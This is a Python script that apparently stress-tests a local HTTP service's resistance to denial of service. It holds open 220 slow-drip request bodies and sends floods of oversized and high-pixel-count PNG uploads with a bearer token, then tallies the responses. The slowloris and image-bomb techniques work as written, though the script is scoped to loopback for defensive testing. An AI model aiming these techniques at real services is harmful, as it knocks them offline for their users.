#!/usr/bin/env python3
"""An attack with one clerk's token: 220 bodies of a byte a second, and 120 large images at once. Each connection waits a
second after its answer and begins again. Prints how often each was answered how.

usage: attack.py PORT TOKEN SECONDS        standard library only; loopback only
"""
import asyncio
import collections
import struct
import sys
import time
import uuid
import zlib

PORT, TOKEN, END = int(sys.argv[1]), sys.argv[2], time.monotonic() + float(sys.argv[3])
ANSWERS = collections.Counter()


def png(edge, noise):
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    if noise:  # data that does not compress
        seed, rows = 1, bytearray()
        for _ in range(edge):
            block = bytearray(3 * edge)
            for i in range(0, len(block), 7):
                seed = (1103515245 * seed + 12345) & 0x7FFFFFFF
                block[i] = seed >> 16 & 0xFF
            rows += b"\0" + block
        data = zlib.compress(bytes(rows), 1)
    else:
        data = zlib.compress((b"\0" + bytes(3 * edge)) * edge, 1)
    header = struct.pack(">IIBBBBB", edge, edge, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def filled(picture, size):
    """With bytes after its end, which are dropped unread."""
    return picture + bytes(size - len(picture))


def head(path, kind, length):
    return (f"POST {path} HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {TOKEN}\r\nContent-Type: {kind}\r\n"
            f"Idempotency-Key: {uuid.uuid4()}\r\nContent-Length: {length}\r\n\r\n").encode()


async def exchange(name, send):
    while time.monotonic() < END:
        writer = None
        try:
            reader, writer = await asyncio.open_connection("127.0.0.1", PORT)
            sending = asyncio.ensure_future(send(writer))
            try:
                line = await asyncio.wait_for(reader.readline(), 90)
            finally:
                sending.cancel()
            ANSWERS[name, line.split(b" ")[1].decode() if b" " in line else "closed"] += 1
        except (OSError, asyncio.TimeoutError) as failed:
            ANSWERS[name, type(failed).__name__] += 1
        finally:
            if writer is not None:
                writer.close()
        await asyncio.sleep(1)


async def drip(writer):
    writer.write(head("/v1/registrations", "application/json", 4000) + b"{")
    while True:
        await asyncio.sleep(1)
        writer.write(b" ")
        await writer.drain()


def whole(body):
    async def send(writer):
        writer.write(head("/v1/evidence?kind=photo", "image/png", len(body)))
        for i in range(0, len(body), 65536):
            writer.write(body[i:i + 65536])
            await writer.drain()
    return send


async def main():
    large = filled(png(1200, True), 5 * 1024 * 1024)
    pixels = filled(png(6300, False), 5 * 1024 * 1024)
    tasks = [exchange("slow body", drip) for _ in range(220)]
    tasks += [exchange("8 MB", whole(filled(large, 8_000_000))) for _ in range(40)]
    tasks += [exchange("5 MiB", whole(large)) for _ in range(40)]
    tasks += [exchange("40 megapixels", whole(pixels)) for _ in range(40)]
    print("attacking", flush=True)
    await asyncio.wait([asyncio.ensure_future(task) for task in tasks], timeout=END - time.monotonic() + 2)
    for (name, status), many in sorted(ANSWERS.items()):
        print(f"{name}: {status} x {many}")

asyncio.run(main())
